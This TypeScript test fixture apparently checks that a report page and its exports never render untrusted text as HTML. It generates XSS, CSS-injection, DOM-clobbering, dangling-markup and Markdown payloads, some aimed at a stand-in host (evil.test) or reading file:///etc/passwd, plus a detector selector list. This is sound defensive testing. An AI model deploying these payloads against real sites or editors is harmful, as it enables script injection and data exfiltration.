/** Texts that would run, load or go somewhere if anything read them as markup. `at` is where they call. */
export const hostileVectors = (at: string): readonly string[] => {
  const bare = at.replace(/^https?:/, '');
  return [
    // Images, media and everything else with an address.
    `<img src=${at}/img>`,
    `<img srcset="${at}/srcset 1x">`,
    `<picture><source srcset=${at}/picture><img></picture>`,
    `<video src=${at}/video poster=${at}/poster></video>`,
    `<audio src=${at}/audio></audio>`,
    `<video><track default src=${at}/track></video>`,
    `<input type=image src=${at}/input>`,
    `<body background=${at}/body>`,
    `<table background=${at}/table><tr><td>x</table>`,
    `<embed src=${at}/embed>`,
    `<object data=${at}/object></object>`,
    `<iframe src=${at}/iframe></iframe>`,
    `<frameset><frame src=${at}/frame></frameset>`,
    `<iframe srcdoc="<img src=${at}/srcdoc>"></iframe>`,
    `<iframe srcdoc="<script>top.pwned=1</script>"></iframe>`,
    `<template shadowrootmode=open><img src=${at}/shadow></template>`,
    `<noscript><img src=${at}/noscript></noscript>`,
    // Links that browsers follow by themselves.
    `<link rel=stylesheet href=${at}/link.css>`,
    `<link rel=preload as=image href=${at}/preload>`,
    `<link rel=prefetch href=${at}/prefetch>`,
    `<link rel=modulepreload href=${at}/module.js>`,
    `<link rel=preconnect href=${at}>`,
    `<link rel=dns-prefetch href=${bare}>`,
    `<link rel=icon href=${at}/icon>`,
    `<link rel=manifest href=${at}/manifest>`,
    `<link rel=import href=${at}/import>`,
    `<meta http-equiv=refresh content="0;url=${at}/refresh">`,
    `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src=${at}/csp>`,
    `<base href=${at}/><img src=base>`,
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${at}/rules"]}]}</script>`,
    // Style sheets.
    `<style>@import url(${at}/import.css);</style>`,
    `<style>*{background:url(${at}/any)}</style>`,
    `<style>@font-face{font-family:f;src:url(${at}/font)}body{font-family:f}</style>`,
    `</style><style>[data-row^="h"]{background:url(${at}/attribute)}</style>`,
    `<div style="background:url(${at}/style)">x</div>`,
    `<p style="--x:url(${at}/v);list-style:var(--x);content:var(--x)">x</p>`,
    `;}body{background:url(${at}/css)}`,
    // Drawings and formulas.
    `<svg><image href=${at}/image></image></svg>`,
    `<svg><image xlink:href=${at}/xlink></image></svg>`,
    `<svg><use href=${at}/use#a></use></svg>`,
    `<svg><feImage href=${at}/fe></feImage></svg>`,
    `<svg onload=pwned=1>`,
    `<svg><script href=${at}/svg.js></script></svg>`,
    `<svg><style>@import url(${at}/svg.css)</style></svg>`,
    `<svg><animate onbegin=pwned=1 attributeName=x dur=1s>`,
    `<svg><foreignObject><iframe src=${at}/foreign></iframe></foreignObject></svg>`,
    `<math><mtext><img src=x onerror=pwned=1></mtext></math>`,
    `<math href="javascript:pwned=1">x</math>`,
    // Scripts and events.
    `<script>pwned=1</script>`,
    `<script src=${at}/script.js></script>`,
    `<script type=module>import "${at}/module.js"</script>`,
    `<img src=x onerror="pwned=1">`,
    `<details open ontoggle=pwned=1>`,
    `<input autofocus onfocus=pwned=1>`,
    `<body onload=pwned=1>`,
    `<marquee onstart=pwned=1>x</marquee>`,
    `<div onpointerrawupdate=pwned=1 contenteditable autofocus onfocus=pwned=1>x</div>`,
    `</title></textarea></style></script><script>pwned=1</script>`,
    `"><script>pwned=1</script>`,
    `'><img src=x onerror=pwned=1>`,
    `<noscript><p title="</noscript><img src=x onerror=pwned=1>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=pwned=1>">`,
    '${pwned=1}',
    `{{constructor.constructor("pwned=1")()}}`,
    // Forms, and names that shadow those of the page.
    `<form action=${at}/form><button autofocus>x</button></form><script>document.forms[0].submit()</script>`,
    `<form id=root><input name=innerHTML><input name=appendChild></form>`,
    `<a id=acquireVsCodeApi></a><a id=acquireVsCodeApi name=postMessage href="${at}"></a>`,
    `<img name=getElementById><img name=body><img name=createElement>`,
    `<iframe name=acquireVsCodeApi srcdoc="<a id=postMessage></a>"></iframe>`,
    // Markup without an end, which would take what follows along.
    `<img src='${at}/dangling?`,
    `<a href="${at}/dangling?`,
    `<meta http-equiv=refresh content='0;url=${at}/dangling?`,
    `<textarea><plaintext><button formaction=${at}/>`,
    `<!--`,
    // Markdown.
    `![x](${at}/markdown)`,
    `![x][r]\n\n[r]: ${at}/reference`,
    `[![x](${at}/linked)](${at})`,
    `[x](javascript:pwned=1)`,
    `[x](command:workbench.action.terminal.new)`,
    `[x](vscode://file/etc/passwd)`,
    `[x](file:///etc/passwd)`,
    `[x](\\\\127.0.0.1\\share)`,
    `<${at}/auto>`,
    `[^1]\n\n[^1]: <img src=${at}/footnote>`,
    `| ![x](${at}/cell) |\n|---|`,
    `\`\`\`html\n<img src=${at}/fence>\n\`\`\`\n<img src=${at}/after>`,
    `<a href="javascript:pwned=1" autofocus>x</a>`,
    `<a href="vscode:extension/x.y" ping=${at}/ping>x</a>`,
  ];
};

const WRAPPINGS = [
  ...[
    '$',
    '**$**',
    '`$`',
    '[F1] $',
    '- $',
    '# $',
    '> $',
    "'$",
    '"$',
    '\\$',
    '&lt;$&gt;',
    '\u202e$',
  ],
  ...[']]>$', '<!--$', '--><b>$', '</p>$', '\u0000$', '$\n$', '*$', '_$_', '<p title="$">', '|$|'],
  ...['](http://evil.test/?$', '</blockquote>$', '<![CDATA[$', '%3Cscript%3E$', '\ufeff$', '~~$~~'],
  ...['[$](http://evil.test/)', '![$](http://evil.test/x.png)', '<$', '{$}', '`\u200b`$'],
  ...['\u2028$', '$$', '\n\n$\n\n', '```\n$\n```', '    $', '<div>\n\n$', '$\r$', '\ud800$'],
];

/** Every vector in every wrapping: some thousands. */
export const hostileTexts = (at: string): readonly string[] =>
  hostileVectors(at).flatMap(vector => WRAPPINGS.map(w => w.replaceAll('$', () => vector)));

/** Elements and attributes that only a text read as HTML could have made, in the report's page and in exports. */
export const NOT_OURS = [
  ...['img', 'iframe', 'object', 'embed', 'form', 'base', 'math', 'video', 'audio', 'picture'],
  ...['[onerror]', '[onload]', '[srcdoc]', '[style*="url("]', '[ping]', 'template', 'frameset'],
  'svg :is(script, style, image, use, foreignObject, feImage, animate, a)',
  ...['script:not([nonce])', 'link:not([nonce])', 'a:not([href^="#"]):not([id])'],
].join();

/** What the fold and the printers go by: no text of a document or a model. */
const OURS =
  /^(?:id|.*Ids?|hash|fingerprint|status|severity|kind|type|code|job|match|verdict|by|provider|languageId|letter|icon|provenance|source|branches|unit|currency|chunk|place|reviewer|on|version|schemaVersion|.*At|range)$/;

/** The value with `text` added to each string in it that a document, a person, a model or a server may have written. */
export function withText<T>(value: T, text: string): T {
  if (typeof value === 'string') return `${value}${text}` as T;
  if (Array.isArray(value)) return value.map((item: unknown) => withText(item, text)) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, inner]) => [
      key,
      OURS.test(key) ? inner : withText(inner, text),
    ]),
  ) as T;
}
